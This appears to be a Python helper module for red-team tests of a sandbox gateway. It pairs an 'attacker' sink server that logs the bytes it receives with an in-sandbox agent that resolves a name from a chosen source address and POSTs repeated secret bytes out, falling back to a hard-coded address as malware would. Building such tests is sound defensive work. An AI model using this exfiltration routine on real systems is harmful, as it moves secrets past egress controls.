"""Programs of the second red team's source-address modules (tests/security/test_redteam_sources.py): a sink on
the internet side, and an agent in the sandbox that speaks from an address of its choosing. Both plain sockets.

The sink (`sink_main`, internet namespace) takes HTTP/1.1 requests with a ``Content-Length`` body on the
addresses it is given and logs ``got N bytes from PEER`` per request, answering ``200 OK``: ground truth of what
reached the attacker's server.

The agent (`spoofed_post_main`, sandbox namespace) asks the gateway's resolver for a name from a source address
of its choosing (a UDP query it builds itself, bound to that address), then POSTs a body of chosen bytes to the
answered address from the same source, with the name as Host. It prints ``dns: ...`` and ``http: <status line>``.
"""

from __future__ import annotations

import socket
import sys
import threading

import dpkt


def sink_main() -> None:
    """``python -c '...sink_main()' PORT ADDRESS...``: log every request's body size and peer, answer 200."""
    port = int(sys.argv[1])
    for address in sys.argv[2:]:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        listener = socket.socket(family, socket.SOCK_STREAM)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind((address, port))
        listener.listen(64)
        threading.Thread(target=_accept, args=(listener,), daemon=True).start()
    print("listening", flush=True)
    threading.Event().wait()


def _accept(listener: socket.socket) -> None:
    while True:
        conn, peer = listener.accept()
        threading.Thread(target=_serve, args=(conn, peer[0]), daemon=True).start()


def _serve(conn: socket.socket, peer: str) -> None:
    buf = b""
    with conn:
        while True:
            while b"\r\n\r\n" not in buf:
                data = conn.recv(65536)
                if not data:
                    return
                buf += data
            head, _, buf = buf.partition(b"\r\n\r\n")
            length = 0
            for line in head.split(b"\r\n")[1:]:
                key, _, value = line.partition(b":")
                if key.strip().lower() == b"content-length":
                    length = int(value.strip())
            while len(buf) < length:
                data = conn.recv(65536)
                if not data:
                    return
                buf += data
            body, buf = buf[:length], buf[length:]
            print(f"got {len(body)} bytes from {peer}: {body[:32]!r}", flush=True)
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: keep-alive\r\n\r\nok")


def resolve(source: str, resolver: str, name: str) -> list[str]:
    """The addresses the resolver gives ``name`` (A over IPv4, AAAA over IPv6), asked from ``source``."""
    six = ":" in source
    query = dpkt.dns.DNS(id=0x5EC7, rd=1)
    query.qd = [dpkt.dns.DNS.Q(name=name, type=dpkt.dns.DNS_AAAA if six else dpkt.dns.DNS_A)]
    with socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((source, 0))
        sock.settimeout(3)
        sock.sendto(bytes(query), (resolver, 53))
        answer = dpkt.dns.DNS(sock.recv(4096))
    family = socket.AF_INET6 if six else socket.AF_INET
    found = [socket.inet_ntop(family, rr.rdata) for rr in answer.an if rr.type in (dpkt.dns.DNS_A, dpkt.dns.DNS_AAAA)]
    print(f"dns: rcode {answer.rcode} answers {found}", flush=True)
    return found


def post(source: str, address: str, port: int, host: str, body: bytes) -> str:
    """POST ``body`` to ``address``:``port`` from ``source`` with ``Host: host``; the answer's status line."""
    with socket.socket(socket.AF_INET6 if ":" in source else socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind((source, 0))
        sock.settimeout(5)
        try:
            sock.connect((address, port))
            head = f"POST /upload HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(body)}\r\n\r\n"
            sock.sendall(head.encode() + body)
            answer = sock.recv(4096)
        except OSError as error:
            return f"error {error}"
    return answer.split(b"\r\n", 1)[0].decode("latin-1") if answer else "closed"


def spoofed_post_main() -> None:
    """``python -c '...spoofed_post_main()' SOURCE RESOLVER NAME FALLBACK PORT SECRET SIZE``: resolve ``NAME``
    from ``SOURCE`` (``FALLBACK``: the address to use when the resolver refuses, as malware with a hard-coded
    address would), then POST ``SIZE`` bytes of ``SECRET`` repeated to it from ``SOURCE``."""
    source, resolver, name, fallback, port, secret, size = sys.argv[1:8]
    try:
        found = resolve(source, resolver, name)
    except OSError as error:
        print(f"dns: error {error}", flush=True)
        found = []
    body = (secret.encode() * (int(size) // len(secret) + 1))[: int(size)]
    print(f"http: {post(source, found[0] if found else fallback, int(port), name, body)}", flush=True)
